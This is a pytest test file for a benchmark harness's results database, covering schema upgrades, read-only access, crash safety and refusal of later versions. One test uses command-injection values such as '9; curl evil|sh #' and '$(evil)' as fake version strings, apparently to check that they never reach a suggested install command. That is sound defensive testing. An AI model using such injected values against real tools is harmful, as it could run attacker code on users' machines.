"""Databases of earlier versions can be read as they are, and are changed only by `pgdl records upgrade`."""

import sqlite3
import subprocess
import sys
from contextlib import closing
from pathlib import Path

import pytest
import sqlalchemy
from alembic.script import ScriptDirectory
from click.testing import CliRunner

import harness.records
from harness.cli.main import cli
from harness.errors import UserError
from harness.records import Evaluation, Records, Request, upgrade
from harness.records.schema import FIRST, SCHEMA
from harness.records.tables import Base
from tests.board.board_examples import MEASURE, OFFICIAL, write_reference
from tests.records.evaluation_rows import evaluation, request

ROOT = Path(__file__).parents[2]

#: Dumps of databases that each version wrote, with a submission's eight calls and one request.
DUMPS = Path(__file__).parent / "versions"

EARLIER = list(range(FIRST, SCHEMA))


def database(directory: Path, version: int) -> Path:
    file = directory / "results.db"
    with closing(sqlite3.connect(file)) as connection:
        connection.executescript((DUMPS / f"version_{version}.sql").read_text())
    return file


def dump(file: Path) -> list[str]:
    with closing(sqlite3.connect(file)) as connection:
        return list(connection.iterdump())


def shape(file: Path) -> dict[str, object]:
    """Tables, columns and indexes of a database, and its stamp."""
    engine = sqlalchemy.create_engine(f"sqlite:///{file}")
    found = sqlalchemy.inspect(engine)
    shape: dict[str, object] = {}
    for table in found.get_table_names():
        shape[table] = {column["name"]: str(column["type"]) for column in found.get_columns(table)}
        shape[f"indexes of {table}"] = sorted(str(index["name"]) for index in found.get_indexes(table))
    with engine.connect() as connection:
        shape["stamp"] = connection.exec_driver_sql("SELECT version_num FROM alembic_version").scalars().all()
    engine.dispose()
    return shape


@pytest.mark.parametrize("version", [*EARLIER, SCHEMA])
def test_every_version_is_read_without_a_write(version: int, tmp_path: Path) -> None:
    file = database(tmp_path, version)
    before = file.read_bytes()
    with Records(str(file), read_only=True) as records:
        assert records.schema == version
        assert [row.value for row in records.newest_of(Evaluation.repeat == 0)] == MEASURE
        (asked,) = records.requests()
    known = version == SCHEMA
    assert (asked.id, asked.submission, asked.team) == (1, "margin", "The Seven" if known else "")
    assert file.read_bytes() == before
    assert list(tmp_path.iterdir()) == [file]


@pytest.mark.parametrize("version", EARLIER)
def test_boards_of_every_version(version: int, tmp_path: Path) -> None:
    tasks = write_reference(tmp_path / "tasks")
    options = ["--tasks", str(tasks), "--results", str(database(tmp_path, version))]
    done = CliRunner().invoke(cli, ["score", "margin", *options])
    assert done.exit_code == 0, done.output
    assert f"{100 * OFFICIAL:.2f}" in done.output


@pytest.mark.parametrize("version", EARLIER)
def test_who_writes_asks_for_an_upgrade(version: int, tmp_path: Path) -> None:
    file = database(tmp_path, version)
    with pytest.raises(UserError) as error:
        Records(str(file))
    assert str(error.value) == (
        f"{file}: version of the tables: expected {SCHEMA}, found {version}; run `pgdl records upgrade` with the same "
        "--results; until then it can only be read"
    )


@pytest.mark.parametrize("version", EARLIER)
def test_an_upgrade_makes_the_tables_those_of_today(version: int, tmp_path: Path) -> None:
    file = database(tmp_path, version)
    before = dump(file)
    done = CliRunner().invoke(cli, ["records", "upgrade", "--results", str(file)])
    copy = tmp_path / f"results.db.version-{version}"
    assert done.output == f"Copied to {copy}\n{file}: tables of version {version} are now of version {SCHEMA}\n"
    assert dump(copy) == before
    Records(str(tmp_path / "new.db")).__exit__(None, None, None)
    assert shape(file) == shape(tmp_path / "new.db")
    with Records(str(file)) as records:
        records.add(evaluation(model="another"))
        assert len(list(records.newest_of(Evaluation.repeat == 0))) == len(MEASURE) + 1
        assert [asked.team for asked in records.requests()] == [""]
    again = CliRunner().invoke(cli, ["records", "upgrade", "--results", str(file)])
    assert again.output.endswith(f"its tables are of the present version, {SCHEMA}; nothing is changed\n")


def test_a_copy_is_never_overwritten(tmp_path: Path) -> None:
    file, copy = database(tmp_path, FIRST), tmp_path / f"results.db.version-{FIRST}"
    copy.write_text("precious")
    with pytest.raises(UserError, match="already exists; move it away"):
        upgrade(str(file))
    assert copy.read_text() == "precious"
    assert upgrade(str(file), copy=False).before == FIRST


#: Dies while the last step has been made, but not yet been written.
DIES = """
import os, sys
from sqlalchemy import event
from harness.records import schema_upgrade

def die(connection):
    os._exit(9)

migrate = schema_upgrade._migrate
schema_upgrade._migrate = lambda engine: (event.listen(engine, "commit", die), migrate(engine))
schema_upgrade.upgrade(sys.argv[1], copy=False)
"""


def test_an_upgrade_that_is_killed_has_changed_nothing(tmp_path: Path) -> None:
    file = database(tmp_path, FIRST)
    died = subprocess.run([sys.executable, "-c", DIES, str(file)], cwd=ROOT)
    assert died.returncode == 9
    with Records(str(file), read_only=True) as records:
        assert records.schema == FIRST
    assert upgrade(str(file)).before == FIRST


def test_a_run_of_an_earlier_version_goes_on_after_an_upgrade(tmp_path: Path) -> None:
    """It knows nothing of new columns, which have a default."""
    file = database(tmp_path, FIRST)
    upgrade(str(file))
    old = [column.name for column in Request.__table__.columns if "since" not in column.info and column.name != "id"]
    with closing(sqlite3.connect(file)) as connection, connection:
        columns = ", ".join(old)
        connection.execute(f"INSERT INTO requests ({columns}) SELECT {columns} FROM requests")
    with Records(str(file)) as records:
        assert len(records.requests()) == 1


@pytest.mark.parametrize(
    ("recorded", "named"),
    [
        ("9.1.0", "9.1.0"), ("9.1.0rc1.dev2", "9.1.0rc1.dev2"),
        *((other, "of the version that wrote it") for other in ("9; curl evil|sh #", "9 --index-url evil", "$(evil)")),
    ],
)  # fmt: skip
def test_a_later_version_is_refused_with_the_program_that_it_needs(tmp_path: Path, recorded: str, named: str) -> None:
    file = tmp_path / "results.db"
    with Records(str(file)) as records:
        records.add(evaluation(harness_version=recorded))
    with closing(sqlite3.connect(file)) as connection, connection:
        connection.execute("UPDATE alembic_version SET version_num = ?", [str(SCHEMA + 1)])
    for read_only in (False, True):
        with pytest.raises(UserError) as error:
            Records(str(file), read_only=read_only)
        expected = f"expected at most {SCHEMA}, found {SCHEMA + 1}; install pgdl-harness {named} or a later one"
        assert str(error.value) == f"{file}: version of the tables: {expected}"


def test_a_stamp_that_is_no_number_is_refused_with_the_file(tmp_path: Path) -> None:
    file = database(tmp_path, SCHEMA)
    with closing(sqlite3.connect(file)) as connection, connection:
        connection.execute("UPDATE alembic_version SET version_num = ?", ["ae1027a6\x1b"])
    with pytest.raises(UserError, match=f"^{file}: version of the tables: expected one number, found ae1027a6[?]$"):
        Records(str(file), read_only=True)


def test_who_reads_creates_nothing(tmp_path: Path) -> None:
    empty = tmp_path / "empty.db"
    empty.touch()
    for location in (str(empty), f"sqlite:///{empty}", f"sqlite:///{tmp_path / 'typo.db'}"):
        with pytest.raises(UserError, match="run `pgdl run SUBMISSION` first"):
            Records(location, read_only=True)
    assert [file.stat().st_size for file in tmp_path.iterdir()] == [0]


def test_columns_that_came_later_have_a_default_and_a_step() -> None:
    later = [column for table in Base.metadata.sorted_tables for column in table.columns if "since" in column.info]
    assert all(column.server_default is not None for column in later)
    assert max(column.info["since"] for column in later) <= SCHEMA
    steps = ScriptDirectory(str(Path(harness.records.__file__).parent / "migrations"))
    assert [step.revision for step in steps.walk_revisions()] == [str(n) for n in range(SCHEMA, 0, -1)]
    assert sorted(file.name for file in DUMPS.iterdir()) == [f"version_{n}.sql" for n in range(FIRST, SCHEMA + 1)]


def test_a_request_of_today_comes_back_whole(tmp_path: Path) -> None:
    with Records(str(tmp_path / "results.db")) as records:
        records.ask([request(evaluation(), team="The Seven", description="a margin", paper="https://example.org")])
        (found,) = records.requests()
    assert (found.team, found.description, found.paper) == ("The Seven", "a margin", "https://example.org")
